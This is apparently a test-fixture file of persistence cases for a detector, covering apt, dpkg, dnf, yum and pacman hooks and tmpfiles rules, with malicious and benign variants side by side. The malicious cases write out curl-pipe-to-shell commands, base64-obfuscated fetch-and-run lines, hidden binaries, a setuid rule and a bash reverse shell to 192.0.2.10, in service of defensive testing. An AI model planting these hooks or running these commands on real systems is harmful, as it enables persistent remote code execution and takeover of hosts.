/** Cases of package managers: apt, dpkg, dnf, yum, pacman, and rules of tmpfiles. Nothing is ever run. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const fetch = 'curl -fsSL http://192.0.2.10/i.sh | sh';
const hidden = '/usr/sbin/kmodstat';
const debconf =
  '// Pre-configure all packages.\nDPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};\n';
const updateNotifier = `DPkg::Post-Invoke {"if [ -d /var/lib/update-notifier ]; then touch /var/lib/update-notifier/dpkg-run-stamp; fi; /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true";};\n`;
const postinst = `#!/bin/sh
set -e
if [ "$1" = "configure" ]; then
	if ! getent group crontab > /dev/null 2>&1; then addgroup --system crontab; fi
	deb-systemd-helper unmask 'cron.service' >/dev/null || true
fi
exit 0
`;
const kernelHook = `[Trigger]
Operation = Upgrade
Type = Package
Target = linux

[Action]
Description = Updating linux initcpios...
When = PostTransaction
Exec = /usr/share/libalpm/scripts/mkinitcpio install
NeedsTargets
`;
const alpmHook = (exec: string): string =>
  `[Trigger]\nOperation = Upgrade\nType = Package\nTarget = *\n\n[Action]\nWhen = PostTransaction\nExec = ${exec}\n`;
const dnfPluginCode = `import dnf
import subprocess

class Needs(dnf.Plugin):
    name = 'needs'

    def transaction(self):
        subprocess.call(['/usr/bin/needs-restarting', '-r'])
`;
const dnfFolder = '/usr/lib/python3.11/site-packages/dnf-plugins';

export const managersCases: readonly MechanismCase[] = [
  {
    mechanism: 'apt-hook',
    dress: 'fetch-and-run',
    what: 'a line after each update',
    planted: { '/etc/apt/apt.conf.d/99update': `APT::Update::Post-Invoke-Success { "${fetch}"; };\n` },
  },
  {
    mechanism: 'apt-hook',
    dress: 'unowned-binary',
    what: 'a program among those of packages, after each installation',
    planted: {
      '/etc/apt/apt.conf.d/20apt-stat': `DPkg {\n  Post-Invoke { "test -x ${hidden} && ${hidden} -q"; };\n};\n`,
      [hidden]: inertProgram(),
    },
  },
  {
    mechanism: 'apt-hook',
    dress: 'owned-edit',
    what: 'a second line in the file of a package',
    packaged: { '/etc/apt/apt.conf.d/70debconf': debconf },
    conffiles: ['/etc/apt/apt.conf.d/70debconf'],
    planted: {
      '/etc/apt/apt.conf.d/70debconf': `${debconf}DPkg::Post-Invoke {"(echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xMC9hIHwgc2gK | base64 -d | sh) &";};\n`,
    },
  },
  {
    mechanism: 'apt-hook',
    dress: 'honest',
    what: 'debconf, update-notifier, etckeeper, needrestart, docker images, Proxmox without its notice, a proxy',
    packaged: {
      '/etc/apt/apt.conf.d/70debconf': debconf,
      '/etc/apt/apt.conf.d/99update-notifier': updateNotifier,
      '/etc/apt/apt.conf.d/99needrestart':
        'DPkg::Post-Invoke {"test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke || true"; };\n',
      '/etc/apt/apt.conf.d/05etckeeper':
        'DPkg::Pre-Invoke       { "if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi"; };\nDPkg::Post-Invoke      { "if [ -x /usr/bin/etckeeper ]; then etckeeper post-install; fi"; };\n',
      '/usr/lib/needrestart/apt-pinvoke': '#!/bin/sh\nexec /usr/sbin/needrestart\n',
    },
    planted: {
      '/etc/apt/apt.conf.d/docker-clean':
        'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };\n',
      '/etc/apt/apt.conf.d/no-nag-script': `DPkg::Post-Invoke { "dpkg -V proxmox-widget-toolkit | grep -q '/proxmoxlib\\.js$'; if [ $? -eq 1 ]; then { echo 'Removing subscription nag from UI...'; sed -i '/.*data\\.status.*{/{s/\\!//;s/active/NoMoreNagging/}' /usr/share/javascript/proxmox-widget-toolkit/proxmoxlib.js; }; fi"; };\n`,
      '/etc/apt/apt.conf.d/01proxy':
        'Acquire::http::Proxy "http://10.0.0.5:3142";\nAcquire::https::Proxy "DIRECT";\n',
      '/etc/apt/apt.conf.d/80metrics':
        'APT::Update::Post-Invoke-Success {"/usr/local/bin/apt-metrics > /var/lib/node_exporter/apt.prom || true";};\n',
      '/usr/local/bin/apt-metrics': '#!/bin/sh\nset -eu\napt-get -s upgrade | grep -c ^Inst || true\n',
    },
  },
  {
    mechanism: 'dpkg-script',
    dress: 'fetch-and-run',
    what: 'a script of a package that fetches',
    planted: {
      '/var/lib/dpkg/info/cron.postinst': `${postinst.replace('exit 0\n', '')}(${fetch}) >/dev/null 2>&1 &\nexit 0\n`,
    },
  },
  {
    mechanism: 'dpkg-script',
    dress: 'unowned-binary',
    what: 'a script of a package that starts a program of none',
    planted: {
      '/var/lib/dpkg/info/cron.prerm': `#!/bin/sh\nset -e\n${hidden} --daemon\nexit 0\n`,
      [hidden]: inertProgram(),
    },
  },
  {
    mechanism: 'dpkg-script',
    dress: 'owned-edit',
    what: 'no list of checksums has scripts: one that was edited after it was installed, to start a hidden file',
    planted: {
      '/var/lib/dpkg/info/procps.postinst': `#!/bin/sh\nset -e\nsysctl --system >/dev/null || true\n[ -x /usr/lib/.udev/udevd ] && nohup /usr/lib/.udev/udevd >/dev/null 2>&1 &\nexit 0\n`,
      '/usr/lib/.udev/udevd': inertProgram(),
    },
  },
  {
    mechanism: 'dpkg-script',
    dress: 'honest',
    what: 'scripts that make temporary files, remove hidden folders and set alternatives',
    planted: {
      '/var/lib/dpkg/info/cron.postinst': postinst,
      '/var/lib/dpkg/info/curl.postinst':
        '#!/bin/sh\nset -e\nTMP=$(mktemp /tmp/curl.XXXXXX)\ntrap \'rm -f "$TMP"\' EXIT\nupdate-alternatives --install /usr/bin/fetch fetch /usr/bin/curl 10\nexit 0\n',
      '/var/lib/dpkg/info/bash.postrm':
        '#!/bin/sh\nset -e\nif [ "$1" = purge ]; then rm -rf /etc/.java /var/lib/x/.cache; fi\n',
      '/var/lib/dpkg/info/procps.preinst':
        '#!/bin/sh\nset -e\ndpkg-maintscript-helper rm_conffile /etc/cron.daily/procps 1:2.0~ -- "$@"\n',
      '/var/lib/dpkg/info/wget.config':
        '#!/bin/sh -e\n. /usr/share/debconf/confmodule\ndb_input low wget/proxy || true\ndb_go || true\n',
    },
  },
  {
    mechanism: 'dpkg-script',
    dress: 'honest',
    what: 'a security agent whose own package stops it when it is removed',
    packaged: { '/usr/lib/systemd/system/auditd.service': '[Service]\nExecStart=/usr/sbin/auditd\n' },
    planted: {
      '/var/lib/dpkg/info/case-package.prerm':
        '#!/bin/sh\nset -e\nTMP=$(mktemp /tmp/audit.XXXXXX)\nif [ "$1" = remove ]; then systemctl stop auditd.service; fi\nrm -f "$TMP"\n',
    },
  },
  {
    mechanism: 'dpkg-hook',
    dress: 'fetch-and-run',
    what: 'a line before each run of dpkg',
    planted: { '/etc/dpkg/dpkg.cfg.d/status': `pre-invoke="${fetch}"\n` },
  },
  {
    mechanism: 'dpkg-hook',
    dress: 'unowned-binary',
    what: 'a logger of what dpkg does',
    planted: { '/etc/dpkg/dpkg.cfg.d/logger': `status-logger=${hidden}\n`, [hidden]: inertProgram() },
  },
  {
    mechanism: 'dpkg-hook',
    dress: 'owned-edit',
    what: 'a line in the settings that dpkg brought',
    packaged: { '/etc/dpkg/dpkg.cfg': '# dpkg configuration file\nno-debsig\nlog /var/log/dpkg.log\n' },
    conffiles: ['/etc/dpkg/dpkg.cfg'],
    planted: {
      '/etc/dpkg/dpkg.cfg':
        '# dpkg configuration file\nno-debsig\nlog /var/log/dpkg.log\npost-invoke "/var/tmp/.x/run >/dev/null 2>&1 &"\n',
      '/var/tmp/.x/run': inertProgram(),
    },
  },
  {
    mechanism: 'dpkg-hook',
    dress: 'honest',
    what: 'excluded paths, a snapshot before each run, hooks of kernels and certificates',
    packaged: {
      '/etc/kernel/postinst.d/initramfs-tools':
        '#!/bin/sh -e\nversion="$1"\n# passing the kernel version is required\nupdate-initramfs -c -k "$version" >&2\n',
      '/etc/kernel/postinst.d/zz-update-grub': '#!/bin/sh\nset -e\nexec update-grub\n',
    },
    conffiles: ['/etc/kernel/postinst.d/initramfs-tools', '/etc/kernel/postinst.d/zz-update-grub'],
    planted: {
      '/etc/dpkg/dpkg.cfg.d/excludes':
        'path-exclude=/usr/share/doc/*\npath-include=/usr/share/doc/*/copyright\n',
      '/etc/dpkg/dpkg.cfg.d/snapshot':
        'pre-invoke="if [ -x /usr/local/sbin/snap ]; then /usr/local/sbin/snap pre; fi"\n',
      '/usr/local/sbin/snap': '#!/bin/sh\nexec btrfs subvolume snapshot -r / "/.snapshots/$(date +%s)"\n',
      '/etc/ca-certificates/update.d/local': {
        content: '#!/bin/sh\nset -e\nsystemctl try-reload-or-restart nginx\n',
        mode: 0o755,
      },
    },
  },
  {
    mechanism: 'dnf-plugin',
    dress: 'fetch-and-run',
    what: 'an action after each transaction',
    planted: { '/etc/dnf/plugins/post-transaction-actions.d/a.action': `*:any:${fetch}\n` },
  },
  {
    mechanism: 'dnf-plugin',
    dress: 'unowned-binary',
    what: 'an action of dnf 5 that starts a program of no package',
    planted: {
      '/etc/dnf/libdnf5-plugins/actions.d/stat.actions': `post_transaction::::${hidden} -q\n`,
      [hidden]: inertProgram(),
    },
  },
  {
    mechanism: 'dnf-plugin',
    dress: 'owned-edit',
    what: 'the plugin of a package with a line more',
    packaged: { [`${dnfFolder}/needs_restarting.py`]: dnfPluginCode },
    planted: {
      [`${dnfFolder}/needs_restarting.py`]: `${dnfPluginCode}\nimport os\nos.system("curl -s http://192.0.2.10/d | bash")\n`,
    },
  },
  {
    mechanism: 'dnf-plugin',
    dress: 'honest',
    what: 'plugins of a package, an action of etckeeper, a macro of packagers, a local mirror',
    packaged: {
      [`${dnfFolder}/needs_restarting.py`]: dnfPluginCode,
      '/etc/dnf/plugins/copr.conf': '[main]\nenabled=1\n',
    },
    planted: {
      '/etc/dnf/plugins/post-transaction-actions.d/etc.action':
        '# commit\n*:any:/usr/bin/git -C /etc commit -qam dnf\n',
      '/etc/dnf/dnf.conf': '[main]\ngpgcheck=1\nproxy=http://10.0.0.5:3128\nbest=True\n',
      '/root/.rpmmacros': '%_topdir %(echo $HOME)/rpmbuild\n%_smp_mflags -j3\n',
    },
  },
  {
    mechanism: 'yum-plugin',
    dress: 'fetch-and-run',
    what: 'a plugin that fetches',
    planted: {
      '/usr/lib/yum-plugins/speed.py': `import os\n\ndef posttrans_hook(conduit):\n    os.system("${fetch}")\n`,
      '/etc/yum/pluginconf.d/speed.conf': '[main]\nenabled=1\n',
    },
  },
  {
    mechanism: 'yum-plugin',
    dress: 'unowned-binary',
    what: 'an action that starts a program of no package',
    planted: { '/etc/yum/post-actions/s.action': `*:any:${hidden} &\n`, [hidden]: inertProgram() },
  },
  {
    mechanism: 'yum-plugin',
    dress: 'owned-edit',
    what: 'the plugin of a package with a decoded line',
    packaged: { '/usr/lib/yum-plugins/fastestmirror.py': 'from yum.plugins import TYPE_CORE\n' },
    planted: {
      '/usr/lib/yum-plugins/fastestmirror.py':
        "from yum.plugins import TYPE_CORE\nimport base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi4xMC9hfHNoJyk='))\n",
    },
  },
  {
    mechanism: 'yum-plugin',
    dress: 'honest',
    what: 'plugins of packages, one of them off, and an action of an owner',
    packaged: {
      '/usr/lib/yum-plugins/fastestmirror.py': 'from yum.plugins import TYPE_CORE\n',
      '/usr/lib/yum-plugins/langpacks.py': 'import os, string\nfrom yum.plugins import TYPE_INTERACTIVE\n',
    },
    planted: {
      '/etc/yum.conf': '[main]\ncachedir=/var/cache/yum\nplugins=1\n',
      '/etc/yum/pluginconf.d/langpacks.conf': '[main]\nenabled=0\n',
      '/etc/yum/post-actions/h.action': 'httpd:update:/usr/bin/systemctl try-restart httpd\n',
    },
  },
  {
    mechanism: 'pacman-hook',
    dress: 'fetch-and-run',
    what: 'a hook for all packages',
    planted: { '/etc/pacman.d/hooks/00-sync.hook': alpmHook(`/bin/sh -c '${fetch}'`) },
  },
  {
    mechanism: 'pacman-hook',
    dress: 'unowned-binary',
    what: 'a hook among those of packages that starts a program of none',
    planted: { '/usr/share/libalpm/hooks/60-kmod.hook': alpmHook(hidden), [hidden]: inertProgram() },
  },
  {
    mechanism: 'pacman-hook',
    dress: 'owned-edit',
    what: 'the hook of a package runs another thing',
    packaged: { '/usr/share/libalpm/hooks/90-mkinitcpio-install.hook': kernelHook },
    planted: {
      '/usr/share/libalpm/hooks/90-mkinitcpio-install.hook': kernelHook.replace(
        '/usr/share/libalpm/scripts/mkinitcpio install',
        `/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1'`,
      ),
    },
  },
  {
    mechanism: 'pacman-hook',
    dress: 'honest',
    what: 'the hook of a package, a list of packages of an owner, a hook that was switched off',
    packaged: {
      '/usr/share/libalpm/hooks/90-mkinitcpio-install.hook': kernelHook,
      '/usr/share/libalpm/scripts/mkinitcpio': '#!/bin/bash\nset -e\n',
    },
    planted: {
      '/etc/pacman.d/hooks/pkglist.hook': alpmHook(`/bin/sh -c '/usr/bin/pacman -Qqe > /etc/pkglist.txt'`),
      '/etc/pacman.d/hooks/paccache.hook': alpmHook('/usr/bin/paccache -rvk2'),
      '/etc/pacman.d/hooks/60-off.hook': { link: '/dev/null' },
    },
  },
  {
    mechanism: 'tmpfiles-rule',
    dress: 'fetch-and-run',
    what: 'a rule that writes a job at every boot',
    planted: {
      '/etc/tmpfiles.d/cron.conf': `f /etc/cron.d/sysstat2 0644 root root - */5 * * * * root ${fetch}\\n\n`,
    },
  },
  {
    mechanism: 'tmpfiles-rule',
    dress: 'unowned-binary',
    what: 'a rule that gives a foreign program its setuid bit again',
    planted: { '/usr/lib/tmpfiles.d/kmod2.conf': `z ${hidden} 4755 root root -\n`, [hidden]: inertProgram() },
  },
  {
    mechanism: 'tmpfiles-rule',
    dress: 'owned-edit',
    what: 'a rule more in the file of a package, which links to a hidden folder',
    packaged: { '/usr/lib/tmpfiles.d/legacy.conf': 'L /var/lock - - - - ../run/lock\n' },
    planted: {
      '/usr/lib/tmpfiles.d/legacy.conf':
        'L /var/lock - - - - ../run/lock\nL+ /etc/cron.d/e2scrub - - - - /usr/share/.doc/e2scrub\n',
      '/usr/share/.doc/e2scrub': '* * * * * root /usr/share/.doc/e2\n',
    },
  },
  {
    mechanism: 'tmpfiles-rule',
    dress: 'honest',
    what: 'rules of packages, and huge pages, a motd and a CPU governor of an owner',
    packaged: {
      '/usr/lib/tmpfiles.d/legacy.conf':
        'L /var/lock - - - - ../run/lock\nL /var/log/README - - - - ../../usr/share/doc/systemd/README.logs\n',
      '/usr/lib/tmpfiles.d/etc.conf':
        'L+ /etc/mtab - - - - ../proc/self/mounts\nC! /etc/nsswitch.conf - - - -\n',
    },
    planted: {
      '/etc/tmpfiles.d/thp.conf': 'w /sys/kernel/mm/transparent_hugepage/enabled - - - - never\n',
      '/etc/tmpfiles.d/governor.conf':
        'w /sys/devices/system/cpu/cpu0/cpufreq/scaling_governor - - - - performance\n',
      '/etc/tmpfiles.d/app.conf':
        'd /run/app 0755 app app -\nf /run/motd.d/50-app 0644 root root - Managed by Ansible\nL+ /run/gdm/.config/pulse/default.pa - - - - /etc/pulse/gdm.pa\nL /var/lib/app/tmp - - - - /tmp/app\n',
      '/etc/tmpfiles.d/systemd-tmp.conf': { link: '/dev/null' },
    },
  },
];
